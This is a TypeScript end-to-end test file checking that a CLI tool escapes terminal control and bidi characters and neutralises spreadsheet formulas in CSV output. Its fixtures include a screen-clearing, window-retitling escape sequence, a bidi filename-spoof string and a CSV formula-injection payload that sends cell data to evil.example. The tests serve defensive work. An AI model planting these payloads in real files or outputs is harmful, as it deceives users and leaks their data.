/**
 * Text from outside reaches a terminal, a log or a report only with its
 * control and bidi characters escaped (issue 19 §3), and a CSV cell that
 * would start a formula gets a `'` (§8). The results file keeps the text as
 * it came. End to end: an image server sends an escape sequence as its
 * reason phrase, and `run`, `status` and the CSV show it escaped. The run is
 * a process (all it writes is what reaches the terminal); `status` and
 * `report` read its file through main() in this process.
 *
 * @module-tag e2e
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { outsideText, quotedOutsideText, safeJson } from '../src/shared/outside-text.js';
import { runCli } from './helpers/cli.js';
import { startFaultServer, type FaultServer } from './helpers/fault-server.js';
import { runMain, withEnv, type MainResult } from './helpers/main.js';

describe('outsideText', () => {
  it.each([
    ['plain text, unicode included', 'Stör€ 店 ✓', 'Stör€ 店 ✓'],
    ['a terminal escape sequence', '\u001b[2J\u001b]0;PWNED\u0007', '\\x1b[2J\\x1b]0;PWNED\\x07'],
    ['newlines and tabs', 'a\nb\r\tc', 'a\\nb\\r\\tc'],
    ['NUL, DEL and C1 (CSI)', '\u0000\u007f\u009b', '\\x00\\x7f\\x9b'],
    ['a bidi override and isolate', 'abc\u202eexe.gpj\u2066', 'abc\\u202eexe.gpj\\u2066'],
    ['line and paragraph separators', 'a\u2028b\u2029', 'a\\u2028b\\u2029'],
  ])('%s', (_name, text, shown) => {
    expect(outsideText(text)).toBe(shown);
  });

  it('safeJson escapes what JSON.stringify leaves raw, and means the same value', () => {
    const value = { e: 'x\u009b\u202e\u2028\u001b' };
    const json = safeJson(JSON.stringify(value));
    expect(json).toBe('{"e":"x\\u009b\\u202e\\u2028\\u001b"}');
    expect(JSON.parse(json)).toEqual(value);
    expect(quotedOutsideText('S\u0000\u202e')).toBe('"S\\u0000\\u202e"');
  });
});

describe('a hostile image server and hostile ids, end to end', () => {
  // ESC [2J clears the screen; ESC ] 0 ; … BEL retitles the window.
  const REASON = '\u001b[2J\u001b]0;PWNED\u0007';
  const SHOWN = '\\x1b[2J\\x1b]0;PWNED\\x07';
  const FORMULA_STORE = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  let server: FaultServer;
  let folder: string;
  let out: string;
  let run: Awaited<ReturnType<typeof runCli>>;
  /** `imgjob <args>` in this process, uncoloured as the spawned run (colours are controls too). */
  const imgjob = (args: string[]): Promise<MainResult> =>
    withEnv({ NO_COLOR: '1' }, () => runMain(args));

  beforeAll(async () => {
    server = await startFaultServer();
    folder = mkdtempSync(join(tmpdir(), 'imgjob-outside-'));
    const manifest = join(folder, 'm.json');
    const hostileUrl = server.url(`/reason/404?text=${encodeURIComponent(REASON)}`);
    const visits = [
      { store_id: 'S1', image_url: [hostileUrl] },
      { store_id: FORMULA_STORE, image_url: [server.url('/status/404')] },
      { store_id: '@SUM(1+1)', image_url: [server.url('/img/image.png')] },
    ];
    writeFileSync(manifest, JSON.stringify({ count: visits.length, visits }));
    out = join(folder, 'm.results.json');
    run = await runCli(['run', manifest, '-o', out, '--gpu-delay', '0', '--retries', '0']);
  });

  afterAll(async () => {
    await server.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it('keeps the reason phrase as received in the results file', () => {
    expect(run.code, run.stderr).toBe(1);
    const document = JSON.parse(readFileSync(out, 'utf8')) as {
      stores: { error?: string }[];
    };
    expect(document.stores[0]?.error).toContain(`HTTP 404 ${REASON}`);
  });

  it('shows it escaped in run’s table and list of failed stores, and in status', async () => {
    const status = await imgjob(['status', out]);
    expect(status.code).toBe(1);
    for (const output of [run.stdout, run.stderr, status.stdout, status.stderr]) {
      expect(hasRawControl(output), output).toBe(false);
    }
    // The list of failed stores holds the whole error (the table a cut of it).
    for (const output of [run.stdout, status.stdout]) {
      const line = output.split('\n').find((text) => text.startsWith('✗ S1: '));
      expect(line?.endsWith(`HTTP 404 ${SHOWN}`), line).toBe(true);
    }
    const json = await imgjob(['status', out, '--json']);
    expect(hasRawControl(json.stdout), json.stdout).toBe(false);
    expect(JSON.stringify(JSON.parse(json.stdout))).toContain('HTTP 404 \\u001b[2J');
  });

  it("writes the CSV with controls escaped and a ' before formulas; --csv-raw as recorded", async () => {
    const csv = await imgjob(['report', out, '--csv', '-']);
    expect(csv.code).toBe(0);
    expect(hasRawControl(csv.stdout), csv.stdout).toBe(false);
    const rows: Record<string, string>[] = parse(csv.stdout, { columns: true });
    expect(rows.map((row) => row.store_id)).toEqual(['S1', `'${FORMULA_STORE}`, "'@SUM(1+1)"]);
    expect(rows[0]?.error).toContain(`HTTP 404 ${SHOWN}`);

    const raw = await imgjob(['report', out, '--csv', '-', '--csv-raw']);
    const rawRows: Record<string, string>[] = parse(raw.stdout, { columns: true });
    expect(rawRows.map((row) => row.store_id)).toEqual(['S1', FORMULA_STORE, '@SUM(1+1)']);
    expect(rawRows[0]?.error).toContain(`HTTP 404 ${REASON}`);
  });
});

/** A control character other than the line ends the output is made of. */
function hasRawControl(output: string): boolean {
  // eslint-disable-next-line no-control-regex -- finding controls is the point
  return /[\u0000-\u001f\u007f-\u009f]/.test(output.replace(/\r?\n/g, ''));
}
